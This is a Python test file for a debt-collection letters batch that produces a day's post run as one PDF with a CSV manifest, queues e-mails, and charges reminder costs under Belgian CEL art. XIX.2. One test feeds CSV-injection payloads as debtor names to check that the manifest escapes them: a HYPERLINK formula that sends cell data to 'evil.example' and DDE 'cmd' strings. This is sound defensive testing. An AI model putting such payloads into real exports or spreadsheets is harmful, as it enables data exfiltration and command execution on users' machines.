"""amicable letters batch: the day's letters, and the post run as one PDF with its manifest.

The daily run of Monday 3 March 2025 queues the free first reminder of files whose creditor sent
none (CEL art. XIX.2): on paper for debtors without an e-mail address, by e-mail otherwise.
"""

from __future__ import annotations

import csv
import hashlib
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pypdf
import pytest
from django.core.management import call_command

from amicable.domain.imputation import Component
from amicable.domain.lifecycle import FileState
from amicable.domain.mentions import LetterKind
from amicable.domain.money import format_eur
from amicable.files.ledger import file_balance
from amicable.files.models import Claim, Event, File, LedgerEntry, WorkItem, WorkItemKind
from amicable.letters.emails import send_due_emails
from amicable.letters.models import (
    ContactAttempt,
    EmailStatus,
    LetterChannel,
    OutgoingEmail,
    PostBatch,
    SentLetter,
)
from amicable.letters.post import MANIFEST_COLUMNS, run_letters_batch
from amicable.letters.services import produce_letter, reprint_letter
from amicable.workflow.models import LetterRequest, LetterStatus, Postage
from tests.factories import claim_input, make_creditor, make_file
from tests.letters.conftest import brussels
from tests.letters.reading import normalise, pdf_text
from tests.workflow.conftest import MONDAY, collection_file, run

pytestmark = pytest.mark.django_db

NO_FIRST_REMINDER: dict[str, Any] = {"first_reminder_sent_on": None, "first_reminder_channel": None}


def new_file(*, email: str = "", **options: Any) -> File:
    """A file opened on Monday 3 March 2025 whose claim had no first reminder."""
    return make_file(
        claims=[claim_input(**NO_FIRST_REMINDER)], today=MONDAY, email=email, **options
    )


def batch(tmp_path: Path, day: str = "2025-03-03") -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command("letters", "batch", "--date", day, "--out", str(tmp_path), stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def manifest_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def test_the_post_run_is_one_pdf_with_a_manifest_and_the_requests_are_produced(
    tmp_path: Path,
) -> None:
    paper = [new_file(), new_file(language="nl")]
    by_email = new_file(email="emma@example.be", language="en")
    refused = new_file(creditor=make_creditor(enterprise_number=""))
    run(MONDAY)
    assert LetterRequest.objects.filter(status=LetterStatus.PENDING).count() == 4

    stdout, stderr = batch(tmp_path)

    post = PostBatch.objects.get()
    letters = list(SentLetter.objects.filter(channel=LetterChannel.POST).order_by("pk"))
    assert [letter.file for letter in letters] == paper
    assert [letter.batch for letter in letters] == [post, post]
    pdf = (tmp_path / "post-2025-03-03-1.pdf").read_bytes()
    manifest = (tmp_path / "post-2025-03-03-1.csv").read_bytes()
    assert stdout == (
        f"Post run 2025-03-03 #1: 2 letters, {post.page_count} pages, sha256 {post.pdf_sha256}.\n"
        f"Wrote {tmp_path / 'post-2025-03-03-1.pdf'}.\n"
        f"Wrote {tmp_path / 'post-2025-03-03-1.csv'}.\n"
        "E-mails queued: 1. Letters refused: 1.\n"
    )
    refused_request = LetterRequest.objects.get(file=refused)
    reason = (
        "Missing mention: enterprise number of the creditor (CEL art. XIX.2 §1) "
        "[creditor.enterprise_number]."
    )
    assert stderr == f"Letter request {refused_request.pk} refused:\n- {reason}\n"

    # One PDF: every letter's pages, in order, and nothing else.
    reader = pypdf.PdfReader(io.BytesIO(pdf))
    assert len(reader.pages) == sum(letter.pages for letter in letters) == post.page_count
    assert (post.letter_count, post.date, post.sequence) == (2, MONDAY, 1)
    assert hashlib.sha256(pdf).hexdigest() == post.pdf_sha256
    assert hashlib.sha256(manifest).hexdigest() == post.manifest_sha256
    with post.pdf.open("rb") as stored:
        assert stored.read() == pdf
    first_pages = [1, 1 + letters[0].pages]
    for letter, first_page in zip(letters, first_pages, strict=True):
        text = normalise(reader.pages[first_page - 1].extract_text())
        assert letter.file.reference in text
        assert letter.file.debtor.name in text

    # The manifest: one row per letter, with what the printer and the envelopes need.
    assert manifest.decode().splitlines()[0] == ",".join(MANIFEST_COLUMNS)
    assert manifest_rows(manifest) == [
        {
            "position": str(position),
            "first_page": str(first_page),
            "pages": str(letter.pages),
            "file_reference": letter.file.reference,
            "kind": "first_reminder",
            "language": language,
            "sha256": letter.sha256,
            "address": f"{letter.file.debtor.name} / Rue Haute 12 / 1000 Bruxelles",
        }
        for position, (letter, first_page, language) in enumerate(
            zip(letters, first_pages, ["fr", "nl"], strict=True), start=1
        )
    ]

    # Paper letters are produced (posted) on the run's date; the e-mail waits to be sent.
    assert {r.file_id: (r.status, r.produced_on) for r in LetterRequest.objects.all()} == {
        paper[0].pk: (LetterStatus.PRODUCED, MONDAY),
        paper[1].pk: (LetterStatus.PRODUCED, MONDAY),
        by_email.pk: (LetterStatus.PENDING, None),
        refused.pk: (LetterStatus.REFUSED, None),
    }
    email = OutgoingEmail.objects.get()
    assert (email.file, email.status, email.to, email.letter.channel) == (
        by_email,
        EmailStatus.QUEUED,
        "emma@example.be",
        LetterChannel.EMAIL,
    )
    item = WorkItem.objects.get(file=refused)
    assert (item.kind, item.data) == (
        WorkItemKind.LETTER_REFUSED,
        {
            "letter_request": refused_request.pk,
            "kind": "first_reminder",
            "errors": [reason],
        },
    )
    # A refused first reminder was never sent: no 14-day period runs on it (CEL art. XIX.2).
    assert Claim.objects.get(file=refused).first_reminder_sent_on is None


def test_a_second_run_the_same_day_produces_nothing_new(tmp_path: Path) -> None:
    new_file()
    new_file(email="emma@example.be")
    run(MONDAY)
    batch(tmp_path / "first")
    counts = (
        SentLetter.objects.count(),
        PostBatch.objects.count(),
        OutgoingEmail.objects.count(),
        ContactAttempt.objects.count(),
        Event.objects.count(),
    )

    stdout, stderr = batch(tmp_path / "second")

    assert stdout == "No letter to post for 2025-03-03.\nE-mails queued: 0. Letters refused: 0.\n"
    assert stderr == ""
    assert (
        SentLetter.objects.count(),
        PostBatch.objects.count(),
        OutgoingEmail.objects.count(),
        ContactAttempt.objects.count(),
        Event.objects.count(),
    ) == counts
    assert not (tmp_path / "second").exists()


def test_a_paper_letter_left_out_of_a_stopped_run_goes_into_the_next_batch(
    tmp_path: Path,
) -> None:
    left, new = new_file(), new_file()
    run(MONDAY)
    # A run stopped after producing the first letter, before its post batch.
    request = LetterRequest.objects.get(file=left)
    produce_letter(
        file=left,
        kind=LetterKind.FIRST_REMINDER,
        actor="letters-batch",
        on=MONDAY,
        at=brussels(2025, 3, 3, 7, 0),
        request=request,
    )
    assert SentLetter.objects.get().batch is None

    result = run_letters_batch(run_date=date(2025, 3, 4), out_dir=None)

    assert result.batch is not None
    assert [letter.file for letter in result.batch.letters.order_by("pk")] == [left, new]
    assert set(LetterRequest.objects.values_list("status", "produced_on")) == {
        (LetterStatus.PRODUCED, date(2025, 3, 4))
    }
    # Posted on Tuesday 4 March: the period counts from that day (CEL art. XIX.2).
    assert Claim.objects.get(file=left).first_reminder_sent_on == date(2025, 3, 4)


def test_the_batch_prints_the_archived_bytes(tmp_path: Path) -> None:
    new_file()
    run(MONDAY)

    result = run_letters_batch(run_date=MONDAY, out_dir=tmp_path)

    assert result.batch is not None
    letter = result.batch.letters.get()
    reader = pypdf.PdfReader(io.BytesIO((tmp_path / "post-2025-03-03-1.pdf").read_bytes()))
    single = pypdf.PdfReader(io.BytesIO(reprint_letter(letter)))
    assert [p.extract_text() for p in reader.pages] == [p.extract_text() for p in single.pages]
    assert letter.file.file_state is FileState.GRACE_PERIOD


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "＝1+1",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "full_width_equals"],
)
def test_a_name_that_looks_like_a_formula_stays_text_in_the_manifest(
    tmp_path: Path, name: str
) -> None:
    new_file(name=name)
    run(MONDAY)

    result = run_letters_batch(run_date=MONDAY, out_dir=tmp_path)

    assert result.batch is not None
    [row] = manifest_rows((tmp_path / "post-2025-03-03-1.csv").read_bytes())
    # Prefixed with a quote, a spreadsheet shows the text (OWASP, "CSV Injection"); the
    # numbers of the row stay numbers.
    assert row["address"] == f"'{name} / Rue Haute 12 / 1000 Bruxelles"
    assert (row["position"], row["first_page"]) == ("1", "1")


def follow_up_letters(file: File) -> list[SentLetter]:
    return list(SentLetter.objects.filter(file=file, kind="follow_up_reminder").order_by("pk"))


def test_a_follow_up_shows_the_cost_the_daily_run_then_charges_xix2() -> None:
    Postage.objects.create(valid_from=date(2025, 1, 1), amount=Decimal("1.74"))
    file = collection_file(regular_supply=False)
    # The first follow-up goes by e-mail (no postage), the second on paper (CEL art. XIX.2:
    # at most EUR 7.50 plus the postage of the day it is sent).
    run(date(2025, 4, 22))
    run_letters_batch(run_date=date(2025, 4, 22), at=brussels(2025, 4, 22, 9, 0))
    assert send_due_emails(now=brussels(2025, 4, 22, 10, 0)).sent != []
    run(date(2025, 4, 23))
    run(date(2025, 5, 15))
    run_letters_batch(run_date=date(2025, 5, 15), at=brussels(2025, 5, 15, 9, 0))
    run(date(2025, 5, 16))

    charged = list(
        LedgerEntry.objects.filter(file=file, component=Component.REMINDER_COST)
        .order_by("value_date")
        .values_list("amount", "value_date")
    )
    assert charged == [
        (Decimal("7.50"), date(2025, 4, 22)),
        (Decimal("9.24"), date(2025, 5, 15)),
    ]
    shown = [
        [
            (i["component"], i["label"], i["amount"], i["legal_basis"])
            for i in letter.content["items"]
        ]
        for letter in follow_up_letters(file)
    ]
    # The postage is named only when there is some: none for the e-mail, never "0,00 €".
    assert [lines[-1] for lines in shown] == [
        (
            "reminder_cost",
            "Frais du présent rappel",
            "7,50\u00a0€",
            "Forfait de 7,50\u00a0€, le maximum légal par rappel (art.\u00a0XIX.2\u00a0CDE).",
        ),
        (
            "reminder_cost",
            "Frais du présent rappel",
            "9,24\u00a0€",
            "Forfait de 7,50\u00a0€, le maximum légal, plus 1,74\u00a0€ de frais postaux "
            "(art.\u00a0XIX.2\u00a0CDE).",
        ),
    ]
    first_text = pdf_text(reprint_letter(follow_up_letters(file)[0]))
    assert re.search(r"(?<![\d ])0,00 €", first_text) is None
    assert "postaux" not in first_text.replace("plus les frais postaux", "")
    # The second shows the first one's cost, booked meanwhile, and its own.
    assert shown[1][-2][:3] == ("reminder_cost", "Frais des rappels déjà envoyés", "7,50\u00a0€")
    for letter in follow_up_letters(file):
        balance = file_balance(file, as_of=letter.letter_date)
        assert letter.content["payment"]["amount"] == format_eur(balance.outstanding, "fr")


def test_a_free_follow_up_shows_no_cost_xix2() -> None:
    file = collection_file(regular_supply=True)  # one of the three free reminders a year
    run(date(2025, 4, 22))
    run_letters_batch(run_date=date(2025, 4, 22), at=brussels(2025, 4, 22, 9, 0))

    (letter,) = follow_up_letters(file)
    assert [i["component"] for i in letter.content["items"]] == [
        "principal",
        "interest",
        "indemnity",
    ]
